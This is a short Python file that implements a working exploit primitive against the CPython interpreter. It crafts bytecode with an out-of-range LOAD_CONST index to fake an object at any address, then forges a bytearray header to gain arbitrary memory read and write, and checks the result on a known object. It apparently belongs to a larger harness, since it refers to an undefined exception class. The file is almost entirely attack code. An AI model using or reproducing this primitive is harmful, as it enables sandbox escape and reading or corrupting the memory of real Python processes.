import struct, types, opcode


def data_of(block):
    """Return the address of the bytes in a bytes object."""
    return id(block) + bytes.__basicsize__ - 1


def object_at(address):
    """Use the memory at an address as an object. The interpreter does not check whether
    the index of a constant is in range."""
    slot = struct.pack("P", address)
    empty = (lambda: None).__code__
    first = id(empty.co_consts) + tuple.__basicsize__
    index = (data_of(slot) - first) // struct.calcsize("P") & 0xFFFFFFFF
    parts = index.to_bytes(4, "big")
    code = [(opcode.opmap["RESUME"], 0)] if "RESUME" in opcode.opmap else []
    code += [(opcode.opmap["EXTENDED_ARG"], part) for part in parts[:3]]
    code += [(opcode.opmap["LOAD_CONST"], parts[3]), (opcode.opmap["RETURN_VALUE"], 0)]
    made = empty.replace(co_code=bytes(sum(code, ())), co_stacksize=2)
    if made.co_consts is not empty.co_consts:
        raise Missing("memory", "the constants of code are copied")
    return types.FunctionType(made, {})()


_kept = []


def view(address, size):
    """Return the memory from an address on, as a forged bytearray."""
    fake = struct.pack("nPnnPPn", 1 << 20, id(bytearray), size, size, address, address, 0)
    _kept.append(fake)
    return object_at(data_of(fake))


# If this does not work, the attempt would be held for the wrong reason.
known = bytes(range(100, 164))
if view(data_of(known), 64)[:] != known:
    raise RuntimeError("the view of a known object does not show its bytes")


